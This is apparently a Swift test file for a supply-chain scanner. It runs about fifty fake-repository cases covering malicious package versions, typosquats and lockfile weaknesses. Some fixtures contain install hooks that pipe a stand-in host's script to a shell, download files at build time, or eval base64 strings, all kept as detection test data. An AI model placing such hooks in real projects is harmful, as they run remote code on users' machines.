import BulwarkCore
import BulwarkDependencies
import Testing

/// One corpus case: a tiny repository, the weakness kinds (rule ids) that must be found, and
/// incidental low-severity kinds that may also appear without counting as false positives.
private struct Case {
    var name: String
    var files: [String: String]
    var expected: Set<String>
    var allowed: Set<String> = []
    var clean: Bool { expected.isEmpty }
}

private let lockHeader = #"{"lockfileVersion": 3, "packages": {"": {"dependencies": {%DEPS%}},"#

private func npmLock(_ pkgs: [(String, String)], integrity: Bool = true, direct: Bool = true) -> String {
    let deps = direct ? pkgs.map { "\"\($0.0)\": \"\($0.1)\"" }.joined(separator: ", ") : ""
    let entries = pkgs.map { p in
        "\n\"node_modules/\(p.0)\": {\"version\": \"\(p.1)\", \"resolved\": \"https://registry.npmjs.org/\(p.0)/-/\(p.0.split(separator: "/").last ?? "")-\(p.1).tgz\"" +
            (integrity ? ", \"integrity\": \"sha512-\(p.0.count)AbC\"" : "") + "}"
    }.joined(separator: ",")
    return lockHeader.replacingOccurrences(of: "%DEPS%", with: deps) + entries + "}}"
}

private let pj = #"{"name": "app", "version": "1.0.0", "dependencies": {"express": "^4.19.2"}}"#

private let cases: [Case] = [
    // Known-malicious versions (landmark incidents).
    Case(name: "ultralytics requirements", files: ["requirements.txt": "ultralytics==8.3.41 --hash=sha256:1f\n"], expected: ["dep-known-malicious"]),
    Case(name: "ultralytics poetry.lock", files: ["poetry.lock": "[[package]]\nname = \"ultralytics\"\nversion = \"8.3.42\"\nfiles = [{file = \"u.whl\", hash = \"sha256:ab\"}]\n"], expected: ["dep-known-malicious"]),
    Case(name: "ultralytics uv.lock", files: ["uv.lock": "version = 1\n[[package]]\nname = \"ultralytics\"\nversion = \"8.3.45\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"https://files.pythonhosted.org/u.tar.gz\", hash = \"sha256:aa\" }\n"], expected: ["dep-known-malicious"]),
    Case(name: "event-stream", files: ["package.json": pj, "package-lock.json": npmLock([("event-stream", "3.3.6"), ("flatmap-stream", "0.1.1")])], expected: ["dep-known-malicious"]),
    Case(name: "ua-parser-js yarn", files: ["package.json": pj, "yarn.lock": "# yarn lockfile v1\n\nua-parser-js@^0.7.28:\n  version \"0.7.29\"\n  resolved \"https://registry.yarnpkg.com/ua-parser-js/-/ua-parser-js-0.7.29.tgz#abc\"\n  integrity sha512-x\n"], expected: ["dep-known-malicious"]),
    Case(name: "eslint-config-prettier pnpm", files: ["package.json": pj, "pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters:\n  .:\n    devDependencies:\n      eslint-config-prettier:\n        specifier: ^10.1.5\n        version: 10.1.7\npackages:\n  eslint-config-prettier@10.1.7:\n    resolution: {integrity: sha512-q}\nsnapshots:\n  eslint-config-prettier@10.1.7: {}\n"], expected: ["dep-known-malicious"]),
    Case(name: "nx s1ngularity", files: ["package.json": pj, "package-lock.json": npmLock([("nx", "21.5.0"), ("@nx/devkit", "21.5.0")])], expected: ["dep-known-malicious"]),
    Case(name: "tinycolor bun", files: ["package.json": pj, "bun.lock": "{\n  \"lockfileVersion\": 1,\n  \"workspaces\": {\"\": {\"dependencies\": {\"@ctrl/tinycolor\": \"^4.1.0\"}}},\n  \"packages\": {\n    \"@ctrl/tinycolor\": [\"@ctrl/tinycolor@4.1.1\", \"\", {}, \"sha512-z\"],\n  },\n}\n"], expected: ["dep-known-malicious"]),
    Case(name: "chalk debug pnpm v6", files: ["package.json": pj, "pnpm-lock.yaml": "lockfileVersion: '6.0'\ndependencies:\n  chalk:\n    specifier: ^5.6.0\n    version: 5.6.1\npackages:\n  /chalk@5.6.1:\n    resolution: {integrity: sha512-a}\n    dependencies:\n      debug: 4.4.2\n  /debug@4.4.2:\n    resolution: {integrity: sha512-b}\n"], expected: ["dep-known-malicious"]),
    Case(name: "xz dpkg", files: ["image/var/lib/dpkg/status": "Package: liblzma5\nStatus: install ok installed\nSource: xz-utils\nVersion: 5.6.1-1\n"], expected: ["dep-known-malicious"]),
    Case(name: "xz apk", files: ["rootfs/lib/apk/db/installed": "P:xz\nV:5.6.0-r0\nC:Q1x=\n\n"], expected: ["dep-known-malicious"]),
    Case(name: "torchtriton confusion", files: ["requirements.txt": "--extra-index-url https://download.pytorch.org/whl/nightly/cpu\ntorch==2.6.0.dev20221230 --hash=sha256:aa\ntorchtriton==2.0.0 --hash=sha256:bb\n"], expected: ["dep-known-malicious", "dep-extra-index-url", "dep-known-vulnerable"]),
    Case(name: "colourama Pipfile.lock", files: ["Pipfile.lock": #"{"_meta": {"sources": [{"url": "https://pypi.org/simple"}]}, "default": {"colourama": {"version": "==0.1.6", "hashes": ["sha256:a"]}}, "develop": {}}"#], expected: ["dep-known-malicious", "dep-typosquat"]),
    Case(name: "jeIlyfish conda", files: ["environment.yml": "name: x\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n    - jeIlyfish==0.7.1\n"], expected: ["dep-known-malicious", "dep-typosquat"]),
    Case(name: "crossenv", files: ["package.json": #"{"name": "a", "devDependencies": {"crossenv": "6.1.1"}}"#, "package-lock.json": npmLock([("crossenv", "6.1.1")])], expected: ["dep-known-malicious", "dep-typosquat"]),
    // Known-vulnerable versions.
    Case(name: "torch.load CVE", files: ["requirements.txt": "torch==2.5.1 --hash=sha256:aa\n"], expected: ["dep-known-vulnerable"]),
    Case(name: "lodash CVE", files: ["package.json": pj, "package-lock.json": npmLock([("lodash", "4.17.20")])], expected: ["dep-known-vulnerable"]),
    // Typosquats not (yet) in any advisory.
    Case(name: "reqeusts", files: ["requirements.txt": "fastapi==0.110.0 --hash=sha256:a\nreqeusts==2.31.0 --hash=sha256:b\n"], expected: ["dep-typosquat"]),
    Case(name: "lodahs", files: ["package.json": #"{"dependencies": {"lodahs": "4.17.21"}}"#, "package-lock.json": npmLock([("lodahs", "4.17.21")])], expected: ["dep-typosquat"]),
    Case(name: "djang0 pyproject", files: ["pyproject.toml": "[project]\nname = \"app\"\ndependencies = [\"djang0==4.2.1\"]\n", "uv.lock": "version = 1\n"], expected: ["dep-typosquat"]),
    Case(name: "tokioo cargo", files: ["Cargo.lock": "version = 3\n[[package]]\nname = \"tokioo\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"ab\"\n"], expected: ["dep-typosquat"]),
    Case(name: "boltdb go", files: ["go.mod": "module m\ngo 1.22\nrequire github.com/boltdb-go/bolt v1.3.1\n", "go.sum": "github.com/boltdb-go/bolt v1.3.1 h1:x=\n"], expected: ["dep-typosquat"]),
    Case(name: "types-node transitive", files: ["package.json": pj, "package-lock.json": npmLock([("types-node", "20.1.0")], direct: false)], expected: ["dep-typosquat"]),
    Case(name: "unicode react", files: ["package.json": #"{"dependencies": {"rеact": "18.2.0"}}"#, "package-lock.json": npmLock([("rеact", "18.2.0")])], expected: ["dep-typosquat"]),
    // Lockfile discipline.
    Case(name: "unpinned", files: ["requirements.txt": "fastapi>=0.100\nuvicorn\n"], expected: ["dep-unpinned-requirement"]),
    Case(name: "partial hashes", files: ["requirements.txt": "fastapi==0.110.0 --hash=sha256:a\ntransformers==4.40.0\n"], expected: ["dep-missing-hashes"]),
    Case(name: "extra index", files: ["requirements.txt": "--extra-index-url https://pypi.acme.internal/simple\nacme-core==1.0 --hash=sha256:a\n"], expected: ["dep-extra-index-url"], allowed: ["dep-insecure-source"]),
    Case(name: "poetry supplemental", files: ["pyproject.toml": "[tool.poetry.dependencies]\npython = \"^3.11\"\n[[tool.poetry.source]]\nname = \"acme\"\nurl = \"https://pypi.acme.internal/simple\"\npriority = \"supplemental\"\n", "poetry.lock": "[metadata]\nlock-version = \"2.0\"\n"], expected: ["dep-extra-index-url"], allowed: ["dep-insecure-source"]),
    Case(name: "integrity missing", files: ["package.json": pj, "package-lock.json": npmLock([("express", "4.19.2")], integrity: false)], expected: ["dep-integrity-missing"]),
    Case(name: "http tarball", files: ["package.json": pj, "pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      helper:\n        specifier: 1.0.0\n        version: 1.0.0\npackages:\n  helper@1.0.0:\n    resolution: {tarball: http://203.0.113.9/helper-1.0.0.tgz, integrity: sha512-x}\nsnapshots:\n  helper@1.0.0: {}\n"], expected: ["dep-insecure-source"], allowed: ["dep-direct-source"]),
    Case(name: "git main requirements", files: ["requirements.txt": "-e git+https://github.com/org/tools.git@main#egg=tools\n"], expected: ["dep-git-branch-pin"]),
    Case(name: "github shorthand", files: ["package.json": #"{"dependencies": {"lib": "github:org/lib#main"}}"#, "yarn.lock": "# yarn lockfile v1\n"], expected: ["dep-git-branch-pin"]),
    Case(name: "tarball url dep", files: ["package.json": #"{"dependencies": {"helper": "https://cdn.example.com/helper-1.0.0.tgz"}}"#, "package-lock.json": #"{"lockfileVersion": 3, "packages": {}}"#], expected: ["dep-direct-source"], allowed: ["dep-insecure-source"]),
    Case(name: "postinstall curl", files: ["package.json": #"{"name": "w", "scripts": {"postinstall": "curl -s https://x.example/i.sh | bash"}}"#], expected: ["dep-install-script"]),
    Case(name: "preinstall eval", files: ["package.json": #"{"name": "w", "scripts": {"preinstall": "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\""}}"#], expected: ["dep-install-script"]),
    Case(name: "setup.py download", files: ["setup.py": "import urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('https://x.example/p', '/tmp/p')\nsetup(name='a')\n"], expected: ["dep-setup-py-build-exec"]),
    Case(name: "setup.py exec", files: ["setup.py": "import base64\nfrom setuptools import setup\nexec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='a')\n"], expected: ["dep-setup-py-build-exec"]),
    Case(name: "docker pip unpinned", files: ["Dockerfile": "FROM python:3.12-slim\nRUN pip install fastapi uvicorn\n"], expected: ["dep-dockerfile-ignores-lockfile"]),
    Case(name: "docker npm install", files: ["Dockerfile": "FROM node:20\nCOPY . .\nRUN npm install\n"], expected: ["dep-dockerfile-ignores-lockfile"]),
    Case(name: "docker curl sh", files: ["Dockerfile": "FROM ubuntu:24.04\nRUN curl -fsSL https://get.example.sh | sh\n"], expected: ["dep-dockerfile-pipe-to-shell"]),
    Case(name: "no lockfile", files: ["package.json": pj], expected: ["dep-manifest-without-lockfile"]),
    Case(name: "cargo git branch", files: ["Cargo.lock": "version = 3\n[[package]]\nname = \"rand\"\nversion = \"0.8.5\"\nsource = \"git+https://github.com/rust-random/rand?branch=master#abcdef0123456789abcdef0123456789abcdef01\"\n"], expected: ["dep-git-branch-pin"]),
    Case(name: "gemfile git branch", files: ["Gemfile.lock": "GIT\n  remote: https://github.com/org/gem.git\n  revision: abc\n  branch: main\n  specs:\n    gem (1.0)\n\nDEPENDENCIES\n  gem!\n"], expected: ["dep-git-branch-pin"]),
    Case(name: "broken lockfile", files: ["package.json": pj, "package-lock.json": "{\"lockfileVersion\": 3, \"packages\": {"], expected: ["dep-unparseable-lockfile"]),
    // Clean controls.
    Case(name: "clean requirements", files: ["requirements.txt": "fastapi==0.110.0 --hash=sha256:a\ntransformers==4.40.0 --hash=sha256:b\ntorch==2.6.0 --hash=sha256:c\n"], expected: []),
    Case(name: "clean npm", files: ["package.json": #"{"name": "w", "scripts": {"build": "vite build"}, "dependencies": {"express": "^4.19.2", "lodash": "^4.17.21"}}"#, "package-lock.json": npmLock([("express", "4.19.2"), ("lodash", "4.17.21"), ("chalk", "5.6.2"), ("debug", "4.4.3")])], expected: []),
    Case(name: "clean pnpm", files: ["package.json": pj, "pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      express:\n        specifier: ^4.19.2\n        version: 4.19.2\npackages:\n  express@4.19.2:\n    resolution: {integrity: sha512-e}\nsnapshots:\n  express@4.19.2: {}\n"], expected: []),
    Case(name: "clean poetry", files: ["pyproject.toml": "[tool.poetry.dependencies]\npython = \"^3.11\"\nrequests = \"^2.31\"\n", "poetry.lock": "[[package]]\nname = \"requests\"\nversion = \"2.32.3\"\nfiles = [{file = \"r.whl\", hash = \"sha256:aa\"}]\n[metadata]\nlock-version = \"2.0\"\n"], expected: []),
    Case(name: "clean docker", files: ["Dockerfile": "FROM python:3.12-slim@sha256:abc\nCOPY requirements.txt .\nRUN pip install --no-cache-dir --require-hashes -r requirements.txt\nFROM node:20\nRUN npm ci --ignore-scripts\n"], expected: []),
    Case(name: "clean cargo", files: ["Cargo.lock": "version = 3\n[[package]]\nname = \"serde\"\nversion = \"1.0.197\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"3fb1\"\n"], expected: []),
    Case(name: "clean go", files: ["go.mod": "module m\ngo 1.22\nrequire github.com/gin-gonic/gin v1.9.1\n", "go.sum": "github.com/gin-gonic/gin v1.9.1 h1:4idEAncQnU5cB7BeOkPtxjfCSye0AAm1R0RVIqJ+Jmg=\n"], expected: []),
    Case(name: "clean setup.py", files: ["setup.py": "import subprocess\nfrom setuptools import setup\nv = subprocess.check_output(['git', 'describe']).decode()\nsetup(name='a', version=v)\n"], expected: []),
    Case(name: "esbuild postinstall", files: ["package.json": #"{"name": "esbuild-app", "scripts": {"postinstall": "node install.js"}, "dependencies": {"esbuild": "0.21.5"}}"#, "package-lock.json": npmLock([("esbuild", "0.21.5")])], expected: [], allowed: ["dep-install-script"]),
    Case(name: "clean uv", files: ["pyproject.toml": "[project]\nname = \"a\"\ndependencies = [\"httpx>=0.27\"]\n", "uv.lock": "version = 1\n[[package]]\nname = \"httpx\"\nversion = \"0.27.0\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"https://files.pythonhosted.org/h.tar.gz\", hash = \"sha256:aa\" }\n"], expected: []),
    Case(name: "clean yarn berry", files: ["package.json": pj, "yarn.lock": "__metadata:\n  version: 6\n\n\"express@npm:^4.19.2\":\n  version: 4.19.2\n  resolution: \"express@npm:4.19.2\"\n  checksum: abc\n  languageName: node\n  linkType: hard\n"], expected: []),
    Case(name: "clean dpkg", files: ["image/var/lib/dpkg/status": "Package: liblzma5\nStatus: install ok installed\nSource: xz-utils\nVersion: 5.6.1+really5.4.5-1\n"], expected: []),
    Case(name: "clean private index", files: ["requirements.txt": "--index-url https://pypi.org/simple\nrequests==2.32.3 --hash=sha256:a\npython-dateutil==2.9.0 --hash=sha256:b\ntypes-requests==2.31.0.6 --hash=sha256:c\n"], expected: []),
]

private func scan(_ c: Case) -> [Finding] {
    let scanner = DependenciesScanner(database: .bundledOnly)
    let context = ScanContext(configuration: Configuration(), root: "/")
    let files = c.files.sorted { $0.key < $1.key }.map { SourceFile(relativePath: $0.key, text: $0.value) }
    var out: [Finding] = []
    for f in files where scanner.wants(f) {
        out += scanner.scan(f, context: context).filter { context.settings(for: rule($0.ruleID)).enabled }
    }
    out += scanner.finish(files: files, context: context)
    return out
}

private func rule(_ id: String) -> RuleDescription {
    DependenciesScanner().rules.first { $0.id == id }!
}

@Test func corpusPrecisionAndRecall() {
    #expect(cases.count >= 50)
    var tp = 0, fp = 0, fn = 0
    var problems: [String] = []
    for c in cases {
        let found = scan(c)
        let kinds = Set(found.map(\.ruleID))
        for e in c.expected {
            if kinds.contains(e) { tp += 1 } else { fn += 1; problems.append("\(c.name): missed \(e)") }
        }
        for f in found where !c.expected.contains(f.ruleID) && !c.allowed.contains(f.ruleID) {
            fp += 1
            problems.append("\(c.name): unexpected \(f.ruleID) [\(f.severity)] \(f.message)")
        }
        if c.clean {
            for f in found where f.severity >= .medium { problems.append("\(c.name): clean control flagged \(f.ruleID) at \(f.severity)") }
            #expect(!found.contains { $0.severity >= .medium }, "\(c.name)")
        }
    }
    let precision = Double(tp) / Double(max(tp + fp, 1))
    let recall = Double(tp) / Double(max(tp + fn, 1))
    print("dependencies corpus: \(cases.count) cases, TP \(tp), FP \(fp), FN \(fn), precision \(precision), recall \(recall)")
    for p in problems { print("  " + p) }
    #expect(precision >= 0.95, "\(problems)")
    #expect(recall >= 0.90, "\(problems)")
}
